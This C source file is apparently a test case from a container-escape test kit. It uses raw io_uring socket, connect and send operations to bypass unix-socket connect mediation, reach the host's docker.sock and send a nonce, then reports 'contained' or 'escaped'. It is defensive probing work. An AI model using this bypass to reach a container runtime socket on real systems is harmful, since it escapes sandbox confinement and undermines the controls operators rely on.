// Goal:    connect to an outside unix socket with io_uring
// Models:  io_uring bypass of connect mediation for unix sockets
// Oracle:  hit docker
// Tier:    core
// Needs:   -
#include "uring.h"
int main(int c, char **v) {
    ctk_init(c, v);
    if (ur_init(0) < 0)
        contained("io_uring_setup: %s", strerror(errno));
    struct io_uring_sqe *s = ur_get();
    s->opcode = 45;
    s->fd = AF_UNIX;
    s->off = SOCK_STREAM;
    int k = ur_run();
    if (k < 0)
        contained("SOCKET: %s", strerror(-k));
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    snprintf(a.sun_path, 107, "%s/docker.sock", conf("RUN"));
    s = ur_get();
    s->opcode = IORING_OP_CONNECT;
    s->fd = k;
    s->addr = (uint64_t)&a;
    s->off = sizeof a;
    int r = ur_run();
    if (r < 0)
        contained("CONNECT: %s", strerror(-r));
    char b[200];
    int n = snprintf(b, sizeof b, "CTK %s\n", NONCE);
    s = ur_get();
    s->opcode = IORING_OP_SEND;
    s->fd = k;
    s->addr = (uint64_t)b;
    s->len = n;
    r = ur_run();
    if (r < 0)
        contained("SEND: %s", strerror(-r));
    usleep(200000);
    escaped("io_uring reached docker.sock");
}
